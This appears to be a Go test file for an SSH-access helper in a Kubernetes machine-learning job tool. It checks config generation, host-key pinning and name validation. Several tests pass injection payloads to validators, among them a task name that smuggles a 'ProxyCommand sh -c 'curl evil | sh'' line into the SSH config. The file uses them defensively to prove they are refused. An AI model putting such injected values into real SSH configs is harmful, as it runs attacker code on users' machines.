package sshaccess

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/easyai-dev/easyai/pkg/exit"
	"github.com/easyai-dev/easyai/pkg/jobmodel"
	"github.com/easyai-dev/easyai/pkg/submit"
)

func hostKey(t *testing.T) (string, ssh.PublicKey) {
	t.Helper()
	_, pub, err := submit.HostKey()
	if err != nil {
		t.Fatal(err)
	}
	key, _, _, _, err := ssh.ParseAuthorizedKey([]byte(pub))
	if err != nil {
		t.Fatal(err)
	}
	return pub, key
}

func TestConfigPinsTheClusterAndTheHostKey(t *testing.T) {
	var b bytes.Buffer
	p := Proxy{Executable: "/opt/my tools/easyai", Kubeconfig: "/home/a/.kube/config", Context: "prod"}
	err := Config(&b, p, "/home/a/.config/easyai/ssh/team-a.mnist.known_hosts", "mnist", []Target{
		{Alias: Alias("worker-0", "mnist", "team-a"), Task: "worker-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := `# easyai: worker-0 of tf/mnist in namespace team-a
Host worker-0.mnist.team-a
  HostName worker-0.mnist.team-a
  User root
  ProxyCommand '/opt/my tools/easyai' port-forward tf/mnist -n team-a --task worker-0 --stdio 2222 --kubeconfig /home/a/.kube/config --context prod
  HostKeyAlias easyai.team-a.mnist
  UserKnownHostsFile /home/a/.config/easyai/ssh/team-a.mnist.known_hosts
  StrictHostKeyChecking yes
  PasswordAuthentication no
  ServerAliveInterval 30

`
	if b.String() != want {
		t.Errorf("got\n%s\nwant\n%s", b.String(), want)
	}
	if got := shellQuote("it's"); got != `'it'\''s'` {
		t.Errorf("shellQuote = %s", got)
	}
}

func TestKnownHostsFile(t *testing.T) {
	pub, key := hostKey(t)
	dir := filepath.Join(t.TempDir(), "ssh")
	path, err := WriteKnownHosts(dir, "mnist", "team-a", key)
	if err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(path)
	if string(data) != "easyai.team-a.mnist "+pub+"\n" {
		t.Errorf("known hosts %q", data)
	}
	for p, mode := range map[string]os.FileMode{path: 0o600, dir: 0o700 | os.ModeDir} {
		if fi, err := os.Stat(p); err != nil || fi.Mode() != mode {
			t.Errorf("%s: mode %v, want %v", p, fi.Mode(), mode)
		}
	}
}

func TestHostKeyOnlyFromTheJobsSecret(t *testing.T) {
	pub, key := hostKey(t)
	secret := func(owner string, typ corev1.SecretType) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "mnist-ssh", OwnerReferences: []metav1.OwnerReference{{UID: "uid-1"}}},
			Type: typ, Data: map[string][]byte{submit.SSHHostPublicKey: []byte(pub + "\n"), "x": []byte(owner)}}
	}
	got, err := hostKeyOf(secret("", corev1.SecretTypeOpaque), "tf/mnist", "uid-1")
	if err != nil || !bytes.Equal(got.Marshal(), key.Marshal()) {
		t.Errorf("the job's Secret: %v", err)
	}
	for name, s := range map[string]*corev1.Secret{
		"another owner":   secret("", corev1.SecretTypeOpaque),
		"a service token": secret("", corev1.SecretTypeServiceAccountToken),
	} {
		uid := "uid-1"
		if name == "another owner" {
			uid = "uid-2"
		}
		if _, err := hostKeyOf(s, "tf/mnist", types.UID(uid)); err == nil || !strings.Contains(err.Error(), "refusing to trust") {
			t.Errorf("%s: %v", name, err)
		}
	}
	bad := secret("", corev1.SecretTypeOpaque)
	bad.Data[submit.SSHHostPublicKey] = []byte("not a key")
	if _, err := hostKeyOf(bad, "tf/mnist", "uid-1"); err == nil {
		t.Error("a Secret without a key gave one")
	}
}

func TestSecretOf(t *testing.T) {
	if _, err := SecretOf("tf/x", nil); err == nil || !strings.Contains(err.Error(), "was not submitted with --ssh") {
		t.Errorf("no annotation: %v", err)
	}
	if s, err := SecretOf("tf/x", map[string]string{jobmodel.SSHAnnotation: "x-ssh"}); err != nil || s != "x-ssh" {
		t.Errorf("x-ssh: %q, %v", s, err)
	}
	if _, err := SecretOf("tf/x", map[string]string{jobmodel.SSHAnnotation: "../x\n"}); exit.Code(err) != exit.Usage {
		t.Errorf("a bad name: %v", err)
	}
}

func TestCheckUser(t *testing.T) {
	for _, u := range []string{"root", "jovyan", "first.last", "_svc"} {
		if err := CheckUser(u); err != nil {
			t.Errorf("%s: %v", u, err)
		}
	}
	for _, u := range []string{"", "a b", "x\nProxyCommand evil", "-oProxyCommand=x"} {
		if err := CheckUser(u); exit.Code(err) != exit.Usage {
			t.Errorf("%q: %v, want exit 2", u, err)
		}
	}
}

// Each name pattern with its length checked apart accepts what the pattern
// with a bounded repetition accepted, at and around the limits.
func TestBoundedNamesAtTheirLimits(t *testing.T) {
	for _, c := range []struct {
		name    string
		got     boundedName
		bounded string
		first   string
		middle  string
		last    string
	}{
		{"user", userName, `^[A-Za-z_][A-Za-z0-9_.-]{0,63}$`, "_", ".", "Z"},
		{"task", taskName, `^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$`, "w", "-", "0"},
		{"object", objectName, `^[a-z0-9]([a-z0-9.-]{0,251}[a-z0-9])?$`, "a", ".", "9"},
		{"kind", kindName, `^[a-z][a-z0-9-]{0,30}$`, "t", "-", "f"},
	} {
		want := regexp.MustCompile(c.bounded)
		for n := 1; n <= c.got.max+2; n++ {
			for _, s := range []string{
				c.first + strings.Repeat(c.middle, max(n-2, 0)) + c.last,
				strings.Repeat(c.first, n),
				strings.Repeat(c.middle, n),
				c.first + strings.Repeat(c.middle, n-1),
				strings.Repeat(c.first, n-1) + "\n",
				strings.Repeat(c.first, n-1) + "A",
			} {
				if c.got.MatchString(s) != want.MatchString(s) {
					t.Errorf("%s name of %d bytes %q: matches %v, want %v", c.name, len(s), s, c.got.MatchString(s), want.MatchString(s))
				}
			}
		}
		if s := strings.Repeat(c.first, c.got.max); !c.got.MatchString(s) {
			t.Errorf("%s name of %d bytes refused, want it accepted", c.name, len(s))
		}
		if s := strings.Repeat(c.first, c.got.max+1); c.got.MatchString(s) {
			t.Errorf("%s name of %d bytes accepted, want it refused", c.name, len(s))
		}
	}
}

// A task name a teammate wrote into a Volcano pod's annotation, with a
// newline and a ProxyCommand of its own, is refused: nothing is written.
func TestConfigRefusesWhatIsNotAPlainName(t *testing.T) {
	evil := "x\nHost *\n  ProxyCommand sh -c 'curl evil | sh'"
	for name, target := range map[string]Target{
		"task":      {Alias: Alias(evil, "mnist", "team-a"), Task: evil, JobArg: "volcano/mnist", Namespace: "team-a", User: "root"},
		"namespace": {Alias: Alias("w-0", "mnist", "a\nb"), Task: "w-0", JobArg: "tf/mnist", Namespace: "a\nb", User: "root"},
		"user":      {Alias: Alias("w-0", "mnist", "team-a"), Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root\nMatch all"},
		"job":       {Alias: Alias("w-0", "mn ist", "team-a"), Task: "w-0", JobArg: "tf/mn ist", Namespace: "team-a", User: "root"},
		"alias":     {Alias: "*", Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root"},
	} {
		var out bytes.Buffer
		err := Config(&out, Proxy{Executable: "easyai"}, "/k", "mnist", []Target{target})
		if err == nil || out.Len() > 0 || strings.ContainsAny(err.Error(), "\n\r") {
			t.Errorf("%s: error %q, wrote %q; want an error on one line and nothing written", name, err, out.String())
		}
	}
	var out bytes.Buffer
	err := Config(&out, Proxy{Executable: "/opt/easy ai/easyai", Kubeconfig: "/k\n  ProxyCommand x"}, "/k", "mnist",
		[]Target{{Alias: Alias("w-0", "mnist", "team-a"), Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root"}})
	if err == nil || out.Len() > 0 {
		t.Errorf("a kubeconfig path with a newline: %v, wrote %q", err, out.String())
	}
}
